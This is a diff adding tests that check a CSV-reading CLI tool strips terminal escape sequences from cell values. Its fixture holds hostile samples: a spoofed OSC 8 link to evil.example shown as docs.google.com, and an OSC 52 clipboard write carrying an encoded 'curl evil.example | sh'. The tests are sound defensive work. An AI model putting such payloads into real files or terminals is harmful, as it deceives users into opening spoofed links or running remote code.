@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -265,6 +267,71 @@ def test_help_and_usage_go_to_the_given_streams():
     assert status == EXIT_UNREADABLE and "invalid choice" in err and out == ""
     status, out, err = run("check", "demo", "--today", "22/11/2026")
     assert status == EXIT_UNREADABLE and "is not a date like 2026-11-22" in err
+
+
+# Terminal escapes a cell can carry: clear screen, a hyperlink that shows one address and opens
+# another (OSC 8), a clipboard write (OSC 52), a bell, the one-byte C1 CSI, DEL, a right-to-left override.
+CLEAR = "\x1b[2J\x1b[H"
+FAKE_LINK = "\x1b]8;;http://evil.example/\x1b\\docs.google.com\x1b]8;;\x1b\\"
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+C1 = "\x9b2J\x85\x7f"
+RLO = "\u202e"
+TERMINAL_CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
+"""Every C0 and C1 control but the newline, and DEL."""
+
+
+@pytest.fixture
+def hostile(tmp_path) -> Path:
+    path = tmp_path / "hostile.csv"
+    rows = [
+        ["Creator", "Post URL", "Spark code", "Expires", "Status"],
+        [f"amy{CLEAR}", "https://www.tiktok.com/@amy/video/1", CODES[1], "2026-11-20", "active"],
+        [f"bob{FAKE_LINK}", "https://www.tiktok.com/@bob/video/2", CODES[2], f"soon{CLIPBOARD}", "active"],
+        [f"cy{C1}", "https://www.tiktok.com/@cy/video/3", CODES[3], f"2026-11-2{C1}\n5", "revoked"],
+        [f"{RLO}dana", "https://www.tiktok.com/@dana/video/4", CODES[4], "2026-11-24", f"active{CLEAR}"],
+    ]
+    with path.open("w", newline="", encoding="utf-8") as out:
+        csv.writer(out).writerows(rows)
+    return path
+
+
+def test_text_output_prints_no_terminal_escapes_from_cells(hostile):
+    status, out, err = run("check", str(hostile), "--today", TODAY)
+    assert (status, err) == (EXIT_OK, "")
+    assert not TERMINAL_CONTROLS.search(out), repr(out)
+    lines = out.splitlines()
+    assert any(line.startswith("  row     2  @amy[2j[h") for line in lines)  # inert text, on its own line
+    assert any("@bob]8;;http://evil.example/" in line for line in lines)
+    problems = [line for line in lines if "Not a date" in line]
+    assert len(problems) == 2 and all(line.startswith("  row ") for line in problems)
+    # A right-to-left override stays, isolated, so it cannot reorder the words after it.
+    (dana,) = [line for line in lines if "dana" in line]
+    assert f"\u2068@{RLO}dana\u2069" in dana
+
+
+def test_json_output_escapes_every_control_and_keeps_the_values(hostile):
+    status, out, err = run("check", str(hostile), "--today", TODAY, "--json")
+    assert (status, err) == (EXIT_OK, "")
+    assert not TERMINAL_CONTROLS.search(out.rstrip("\n")), repr(out)
+    assert RLO not in out  # written as \u202e: the terminal shows an escape, not a reversed line
+    data = json.loads(out)
+    creators = {r["creator"] for r in data["records"]}
+    assert f"@amy{CLEAR}".lower() in {c.lower() for c in creators}  # the data itself is exact
+    assert "@" + RLO + "dana" in creators
+
+
+def test_alert_dry_run_prints_no_terminal_escapes(hostile):
+    status, out, err = run("alert", str(hostile), "--today", TODAY, "--dry-run")
+    assert (status, err) == (EXIT_ATTENTION, "")
+    assert not TERMINAL_CONTROLS.search(out), repr(out)
+    assert "@amy[2j[h" in out
+
+
+def test_an_error_line_prints_no_terminal_escapes(tmp_path):
+    status, out, err = run("check", str(tmp_path / f"gone{CLEAR}{CLIPBOARD}.csv"))
+    assert status == EXIT_UNREADABLE
+    assert err.startswith("sparkwatch: No file at ") and err.count("\n") == 1
+    assert not TERMINAL_CONTROLS.search(err.rstrip("\n")), repr(err)
 
 
 # --------------------------------------------------------------------------- calendar
